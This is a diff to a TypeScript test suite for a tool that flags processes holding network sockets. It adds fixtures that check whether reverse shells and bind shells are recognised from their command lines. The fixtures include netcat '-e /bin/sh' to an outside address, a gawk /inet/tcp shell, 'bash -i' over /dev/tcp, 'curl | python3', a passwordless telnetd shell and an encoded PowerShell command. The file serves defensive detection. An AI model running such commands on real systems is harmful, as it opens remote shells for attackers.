@@ -56,7 +56,7 @@ const cases: [string, Case, Verdict, string[], string[]][] = [
   ["python running a script file: not a shell", out(8443, proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "/opt/app/server.py"] })), "unknown", [], ["shell-socket"]],
   // owners and exposure
   ["sshd on 22 (a server)", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("sshd", "/usr/sbin/sshd") }, "expected", ["known-service"], ["unexpected-owner", "exposed-service"]],
-  ["22 held by something that is not sshd", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("python3") }, "unknown", ["unexpected-owner"], ["known-service"]],
+  ["22 held by something that is not sshd", { local: ep("0.0.0.0", 22), direction: "listening", exposure: "all-interfaces", process: proc("python3", "/usr/bin/python3", { cmdline: ["python3", "/opt/x/fake-ssh.py"] }) }, "unknown", ["unexpected-owner"], ["known-service"]],
   ["cupsd on loopback 631", { local: ep("127.0.0.1", 631), direction: "listening", process: proc("cupsd", "/usr/sbin/cupsd") }, "expected", ["known-service"], []],
   ["cupsd on all interfaces: worth a look", { local: ep("0.0.0.0", 631), direction: "listening", exposure: "all-interfaces", process: proc("cupsd", "/usr/sbin/cupsd") }, "unknown", ["exposed-service"], ["known-service"]],
   ["cups-browsed on UDP 631 (CVE-2024-47176)", { proto: "udp", local: ep("0.0.0.0", 631), direction: "listening", exposure: "all-interfaces", process: proc("cups-browsed", "/usr/sbin/cups-browsed") }, "suspicious", ["cups-browsed"], []],
@@ -81,7 +81,58 @@ const cases: [string, Case, Verdict, string[], string[]][] = [
   ["an ESTABLISHED connection to a 'backdoor' port inside this computer, owner unseen: fires", { local: ep("127.0.0.1", 38411), remote: ep("127.0.0.1", 60922), direction: "outbound", process: null }, "suspicious", ["backdoor-port"], ["local-traffic"]],
 ];
 
+// Shells, netcats and interpreters judged by their grammar (src/evaluate/command-line.ts): [what, argv, exe, socket, verdict, rules that fire, rules that must not, message]
+const reverse = (p: ProcessInfo): Case => out(9001, p);
+const serving = (port: number, p: ProcessInfo): Case => ({ local: ep("0.0.0.0", port), direction: "listening", exposure: "all-interfaces", process: p });
+const run = (argv: string[], exe: string, name = argv[0]?.replace(/^.*\//, "") ?? "?") => proc(name, exe, { cmdline: argv });
+const grammarCases: [string, Case, Verdict, string[], string[], RegExp][] = [
+  ["python3 -Ic (combined flags) connected out", reverse(run(["python3", "-Ic", "import socket,os,pty;..."], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [],
+    /^python3 \(pid 1000, \/usr\/bin\/python3\.11\) runs code given on its command line \(-Ic: -c inside a cluster\) and holds a network socket/],
+  ["curl … | python3 (no script: the program comes from standard input)", reverse(run(["python3"], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [],
+    /reads its program from standard input \(python3 with no script: from a pipe, a socket or a terminal\)/],
+  ["python3 - (the program from standard input)", reverse(run(["python3", "-"], "/usr/bin/python3.11")), "suspicious", ["shell-socket"], [], /reads its program from standard input \(python3 -\)/],
+  ["perl -le", reverse(run(["perl", "-le", "use Socket;..."], "/usr/bin/perl")), "suspicious", ["shell-socket"], [], /\(-le: -e inside a cluster\)/],
+  ["ruby -rsocket -e", reverse(run(["ruby", "-rsocket", "-e", "TCPSocket.open(...)"], "/usr/bin/ruby3.1")), "suspicious", ["shell-socket"], [], /\(-e\) and holds a network socket/],
+  ["pwsh -enc (abbreviated -EncodedCommand)", reverse(run(["pwsh", "-nop", "-enc", "SQBFAFgA"], "/opt/microsoft/powershell/7/pwsh")), "suspicious", ["shell-socket"], [], /\(-enc: short for -EncodedCommand\)/],
+  ["gawk with /inet/tcp", reverse(run(["gawk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/9001\"}"], "/usr/bin/gawk")), "suspicious", ["shell-socket"], [], /\(its program is its first argument\)/],
+  ["bash -i (bash -i >& /dev/tcp/…)", reverse(run(["bash", "-i"], "/usr/bin/bash")), "suspicious", ["shell-socket"], [], /is an interactive shell \(-i\) holding a network socket: the classic reverse shell/],
+  ["busybox sh", reverse(run(["busybox", "sh"], "/bin/busybox")), "suspicious", ["shell-socket"], [], /\(busybox sh\) holding a network socket/],
+  ["busybox nc -e /bin/sh", reverse(run(["busybox", "nc", "-e", "/bin/sh", "198.51.100.7", "9001"], "/bin/busybox")), "suspicious", ["shell-socket"], [],
+    /is a netcat-like tool holding a network socket, set to run \/bin\/sh for the other end \(-e\)/],
+  ["busybox telnetd -l /bin/sh (a shell for anyone, no password)", serving(1337, run(["busybox", "telnetd", "-l", "/bin/sh", "-p", "1337"], "/bin/busybox")), "suspicious", ["shell-socket"], [],
+    /serves \/bin\/sh to whoever connects \(-l\), with no login: a bind shell/],
+  ["sh -c '…' holding a socket itself (kept suspicious: a wrapper that ends in exec is never seen as sh)", reverse(run(["sh", "-c", "sleep 1; cat"], "/usr/bin/dash")), "suspicious", ["shell-socket"], [],
+    /is a shell running the command given with -c holding a network socket/],
+  ["a bash script holding a socket: still a shell", reverse(run(["bash", "/opt/app/run.sh"], "/usr/bin/bash")), "suspicious", ["shell-socket"], [], /is a shell running \/opt\/app\/run\.sh holding/],
+  // must not be called reverse shells
+  ["node -r dotenv/config server.js (-r is require)", serving(3000, run(["node", "-r", "dotenv/config", "server.js"], "/usr/bin/node")), "unknown", [], ["shell-socket", "ad-hoc-server"], /./],
+  ["node --require ts-node/register app.ts", reverse(run(["node", "--require", "ts-node/register", "app.ts"], "/usr/bin/node")), "unknown", [], ["shell-socket"], /./],
+  ["busybox httpd -f -p 8080 (a web server, not a shell)", serving(8080, run(["busybox", "httpd", "-f", "-p", "8080"], "/bin/busybox")), "unknown", [], ["shell-socket", "ad-hoc-server"], /./],
+  ["busybox udhcpc on 68 (the DHCP client)", { proto: "udp", local: ep("0.0.0.0", 68), direction: "listening", exposure: "all-interfaces", process: run(["udhcpc", "-i", "eth0"], "/bin/busybox") }, "expected", ["known-service"], ["shell-socket"], /udhcpc is the usual owner of 68\/udp/],
+  ["a uvicorn worker (multiprocessing spawn: python3 -c with the library's own one-liner)", serving(8002, run(["/usr/bin/python3", "-c", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)", "--multiprocessing-fork"], "/usr/bin/python3.11")), "unknown", [], ["shell-socket"], /./],
+  ["python3 running a script", reverse(run(["/usr/bin/python3", "-u", "/opt/app/main.py"], "/usr/bin/python3.11")), "unknown", [], ["shell-socket"], /./],
+  ["gunicorn's rewritten title: its arguments are gone, nothing to judge", serving(8001, run(["gunicorn: master [app:app]"], "/usr/bin/python3.11", "gunicorn")), "unknown", [], ["shell-socket"], /./],
+  ["python3 -m http.server 8000: a quick file server, at most unknown", serving(8000, run(["python3", "-m", "http.server", "8000"], "/usr/bin/python3.11")), "unknown", ["ad-hoc-server"], ["shell-socket"],
+    /^A quick file server started from the command line \(python3 -m http\.server 8000\): it shares a folder with anyone who can reach it$/],
+  ["ruby -run -e httpd . -p 8000: un.rb's file server, not a reverse shell", serving(8000, run(["ruby", "-run", "-e", "httpd", ".", "-p", "8000"], "/usr/bin/ruby3.1")), "unknown", ["ad-hoc-server"], ["shell-socket"],
+    /^A quick file server started from the command line \(ruby -run -e httpd \. -p 8000\): it shares a folder/],
+  ["php -S 0.0.0.0:8080", serving(8080, run(["php", "-S", "0.0.0.0:8080"], "/usr/bin/php8.2")), "unknown", ["ad-hoc-server"], ["shell-socket"], /^A quick web server .*\(php -S 0\.0\.0\.0:8080\): it serves a folder, and runs the PHP files in it/],
+];
+
 describe("evaluate", () => {
+  for (const [what, c, verdict, fire, quiet, message] of grammarCases) {
+    it(`evaluate: ${what} → ${verdict}`, () => {
+      const s = sock(c);
+      evaluate([s], { knowledge, mode: "live-root", origin: "live" });
+      const rules = s.reasons.map((r) => r.rule);
+      assert.equal(s.verdict, verdict, `reasons: ${JSON.stringify(s.reasons)}`);
+      for (const r of fire) assert.ok(rules.includes(r), `expected rule ${r} in ${rules.join(", ")}`);
+      for (const r of quiet) assert.ok(!rules.includes(r), `rule ${r} must not fire: ${JSON.stringify(s.reasons)}`);
+      const main = s.reasons.find((r) => r.rule === fire[0]) ?? s.reasons[0];
+      assert.match(main?.message ?? "", message);
+    });
+  }
+
   for (const [what, c, verdict, fire, quiet] of cases) {
     it(`evaluate: ${what} → ${verdict}`, () => {
       const s = sock(c);
